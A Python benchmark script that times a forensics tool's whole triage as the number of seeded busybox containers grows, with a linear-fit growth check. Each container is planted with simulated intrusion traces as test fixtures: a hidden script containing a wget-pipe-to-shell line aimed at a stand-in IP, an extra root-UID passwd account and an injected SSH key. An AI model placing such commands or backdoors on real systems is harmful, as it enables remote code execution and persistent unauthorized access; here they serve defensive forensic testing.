"""Benchmark: wall time of a whole triage as the host's containers grow.

    python bench/triage_scale.py [--points 0 5 10 20 40]

Adds busybox victims until the host holds each point's number of them, each from its own
image (forensics-test/busybox plus one small layer, DOCKER_BUILDKIT=0) and with a few
changed files (a dropped script in /tmp, an appended /etc/passwd line, an authorized_keys),
then runs `forensics triage --root / --output TMP --json` natively with
FORENSICS_MONITOR_SECONDS=1 (the process monitor watches 1 s instead of 5). No trivy
vulnerability DB is used (trivy is not on this host's PATH: scan.trivy is skipped).

The host is shared: the triage also reads the containers and images other people left on
it, so the point with 0 victims is the fixed cost of this host as it stood then (it moves
as others' containers come and go). Growth is judged on the victim points alone (each the
fastest of two runs): the target is growth no faster than linear, so a least-squares line
through every point but the largest (the 0 point included: its fixed cost is in every
point, and with it the line does not tilt on the noise of two or three close points) is
carried out to the largest, and the largest point's time over that line's must stay within
1.15 (a fixed cost that dominates the small points bends the curve below the line, which
is not a miss; a quadratic term shows above it). The line through the victim points alone
is printed too. On this shared machine a run moves by a few seconds, about what ten
victims add. Removes its containers, images and archives at the end.
"""

from __future__ import annotations

import argparse
import json
import os
import sys
import time
from pathlib import Path
from typing import Any

if __name__ == "__main__":
    sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from bench.common import (
    FORENSICS,
    LABEL,
    Row,
    build_image,
    client,
    remove_container,
    remove_image,
    run,
    scratch_dir,
)

BASE = "forensics-test/busybox:latest"
SCRIPT = (
    "echo 'wget -q -O- http://203.0.113.9/x | sh' > /tmp/.x.sh && chmod +x /tmp/.x.sh && "
    "echo 'svc:x:0:0::/root:/bin/sh' >> /etc/passwd && mkdir -p /root/.ssh && "
    "echo 'ssh-ed25519 AAAAbench bench' > /root/.ssh/authorized_keys && echo READY && exec sleep 3600"
)


def add_victim(cli: Any, i: int) -> tuple[Any, str]:
    tag = f"forensics-bench/victim:{i}"
    build_image(cli, f"FROM {BASE}\nCOPY marker /opt/marker-{i}\n", tag, {"marker": f"victim {i}\n".encode()})
    box = cli.containers.run(tag, ["sh", "-c", SCRIPT], detach=True, name=f"forensics-bench-victim-{i}",
                             labels={LABEL: "1"})  # fmt: skip
    return box, tag


def triage(work: Path) -> tuple[float, dict[str, Any]]:
    out = work / f"out-{time.monotonic_ns()}"
    env = dict(os.environ, FORENSICS_MONITOR_SECONDS="1")
    start = time.perf_counter()
    done = run([*FORENSICS, "triage", "--root", "/", "--output", str(out), "--json"], env=env, check=False)
    seconds = time.perf_counter() - start
    if done.returncode not in (0, 1):
        raise RuntimeError(f"triage exited {done.returncode}: {done.stderr.decode(errors='replace')[-2000:]}")
    return seconds, json.loads(done.stdout)


def slowest(result: dict[str, Any], n: int = 3) -> str:
    steps = sorted(result.get("steps", []), key=lambda s: -float(s.get("seconds") or 0))[:n]
    return ", ".join(f"{s['name']} {float(s['seconds']):.1f} s" for s in steps)


def rows(points: list[int], repeat: int = 2) -> list[Row]:
    cli = client()
    victims: list[tuple[Any, str]] = []
    measured: list[tuple[int, float, int, str]] = []
    try:
        with scratch_dir("bench-triage-") as work:
            for point in sorted(points):
                while len(victims) < point:
                    victims.append(add_victim(cli, len(victims)))
                for box, _ in victims:
                    box.reload()
                    if box.status != "running" or b"READY" not in box.logs():
                        time.sleep(0.5)
                on_host = len(cli.containers.list(all=True))
                seconds, result = min((triage(work) for _ in range(repeat)), key=lambda r: r[0])
                measured.append((point, seconds, on_host, slowest(result)))
    finally:
        for box, tag in victims:
            remove_container(box)
            remove_image(cli, tag)
        cli.close()
    out = []
    for point, seconds, on_host, steps in measured:
        met = seconds <= 60 if point == 20 else None
        out.append(Row("whole triage (monitor 1 s, no vuln DB)", f"{point} victims ({on_host} containers on host)",
                       f"{seconds:.1f} s", "-", None, "20 victims <= 60 s" if point == 20 else "", met,
                       f"fastest of {repeat}; slowest steps: {steps}"))  # fmt: skip
    points = sorted((p, t) for p, t, _, _ in measured)
    fit = [(p, t) for p, t in points if p > 0]
    if len(fit) >= 3:
        a, b, worst = linear_fit(fit)
        below_a, below_b, _ = linear_fit(points[:-1])
        last, took = fit[-1]
        line = below_a + below_b * last
        ratio = took / line
        out.append(Row("whole triage (monitor 1 s, no vuln DB)",
                       f"growth: {last} victims against the line through the smaller points",
                       f"{took:.1f} s", f"{line:.1f} s", ratio, "at most linear (<= 1.15)", ratio <= 1.15,
                       f"line through the smaller points: {below_b:.2f} s/victim + {below_a:.1f} s; through all "
                       f"victim points: {b:.2f} s/victim + {a:.1f} s, largest distance of a point from it "
                       f"{worst:.0%} of that point's time (the 0 point carries other people's containers)"))  # fmt: skip
    return out


def linear_fit(points: list[tuple[int, float]]) -> tuple[float, float, float]:
    """Intercept, slope, and the largest residual as a share of its point's time."""
    n = len(points)
    mx = sum(p for p, _ in points) / n
    my = sum(t for _, t in points) / n
    b = sum((p - mx) * (t - my) for p, t in points) / sum((p - mx) ** 2 for p, _ in points)
    a = my - b * mx
    return a, b, max(abs(t - (a + b * p)) / t for p, t in points)


def main() -> int:
    parser = argparse.ArgumentParser()
    parser.add_argument("--points", type=int, nargs="+", default=[0, 5, 10, 20, 40])
    parser.add_argument("--repeat", type=int, default=2)
    args = parser.parse_args()
    for row in rows(args.points, args.repeat):
        print(f"{row.case}: {row.ours}; {row.note}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
